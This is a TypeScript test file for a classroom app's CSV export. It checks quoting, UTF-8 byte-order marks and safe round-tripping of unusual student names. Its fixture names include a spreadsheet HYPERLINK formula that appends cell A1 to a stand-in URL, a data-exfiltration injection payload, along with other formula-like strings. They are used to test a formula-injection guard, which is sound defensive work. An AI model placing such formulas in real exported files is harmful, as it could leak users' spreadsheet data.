import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { CSV_BOM, csvField, guardFormula, toCsv, type CsvCell } from '../../content/assignments/csv';
import { createSeedAssignment, generatedResultsText, teacherCopy, unlockedTeacher } from '../support/assignments';
import { testCaller } from '../support/memory-files-port';

const NAMES = [
  'Zoë "Z" O\'Brien, Jr.',
  'Анна',
  'محمد',
  '=HYPERLINK("http://example.invalid/?x="&A1,"click me")',
  '+33 6 12 34 56 78',
  '-2+3',
  '@SUM(A1:A9)',
  '李小龍',
  'Ngọc Ánh',
  '👩🏽‍🏫 Ms. Emoji',
  ' leading and trailing ',
];

const read = (csv: string) => parse(csv, { bom: true, relax_quotes: false, relax_column_count: false }) as string[][];

describe('CSV cells', () => {
  it('guards text that a spreadsheet would run as a formula', () => {
    expect(guardFormula('=1+1')).toBe("'=1+1");
    expect(guardFormula('+1')).toBe("'+1");
    expect(guardFormula('-1')).toBe("'-1");
    expect(guardFormula('@A1')).toBe("'@A1");
    expect(guardFormula('\t=1')).toBe("'\t=1");
    expect(guardFormula('Anna = Anna')).toBe('Anna = Anna');
  });

  it('quotes commas, quotes, line breaks and edge spaces, and writes numbers and empty cells plainly', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvField(' x')).toBe('" x"');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(0.5)).toBe('0.5');
    expect(csvField(-1)).toBe('-1');
    expect(csvField(null)).toBe('');
  });

  it('writes a UTF-8 byte-order mark and CRLF line ends', () => {
    const csv = toCsv([['a', 'b'], ['Анна', 1]]);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toBe('\uFEFFa,b\r\nАнна,1\r\n');
  });

  it('round-trips difficult names and texts through a standard CSV parser', () => {
    const rows: CsvCell[][] = [
      ['Name', 'Note', 'Score'],
      ...NAMES.map((name, i): CsvCell[] => [name, i % 2 ? 'line one\nline “two”, with a comma' : '', i / 10]),
      ['', null, 0],
    ];
    const parsed = read(toCsv(rows));
    expect(parsed).toEqual(rows.map((row) => row.map((cell) => (cell === null ? '' : typeof cell === 'number' ? String(cell) : guardFormula(cell)))));
    // Only the formula-like names changed, and only by the leading apostrophe.
    const changed = NAMES.filter((n) => guardFormula(n) !== n);
    expect(changed).toEqual([NAMES[3], NAMES[4], NAMES[5], NAMES[6]]);
  });
});

describe('the class CSV', () => {
  it('keeps every student name, safely, one row each, through export and a parser', async () => {
    const t = await unlockedTeacher();
    const id = await createSeedAssignment(t.handlers, 'assessment', { exerciseIds: ['attr-choice-direct-no-marks', 'attr-written-vague-sources', 'num-order-tolls'] });
    const copy = await teacherCopy(t.dir, id);
    t.files.willOpen(NAMES.map((name, s) => ({ name: `${s}.lensesresults`, content: generatedResultsText(copy, s, name) })));
    const report = await t.handlers.importResults({ assignmentId: id }, testCaller);
    expect(report.rejected).toEqual([]);
    await t.handlers.exportClassCsv({ assignmentId: id }, testCaller);
    const rows = read(t.files.saved.at(-1)!.content);
    expect(rows[0]).toEqual([
      'Name',
      'Submitted (local time)',
      'Submitted (ISO 8601, UTC)',
      'Time (minutes)',
      'Completed (of 3)',
      'Total score (out of 2)',
      'Right on the first try',
      '1. attr-choice-direct-no-marks',
      '2. attr-written-vague-sources (written)',
      '3. num-order-tolls',
    ]);
    const overview = await t.handlers.getClassOverview({ assignmentId: id });
    // Names are stored trimmed; rows follow the overview's order.
    expect(rows.slice(1).map((r) => r[0])).toEqual(overview.students.map((s) => guardFormula(s.name)));
    expect(new Set(rows.slice(1).map((r) => r[0]!.replace(/^'/u, '')))).toEqual(new Set(NAMES.map((n) => n.trim())));
    for (const [i, row] of rows.slice(1).entries()) {
      const student = overview.students[i]!;
      expect(row).toHaveLength(10);
      // The submission time twice: readable local time, then ISO 8601 for machines.
      expect(row[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/u);
      expect(new Date(row[2]!).toISOString()).toBe(student.submittedAt);
      const written = student.answers['attr-written-vague-sources'];
      expect(row[8]).toBe(written?.type === 'written' ? guardFormula(written.text) : '');
      expect(row[7]).toBe(student.scores['attr-choice-direct-no-marks'] === null ? '' : String(student.scores['attr-choice-direct-no-marks']));
    }
  });
});
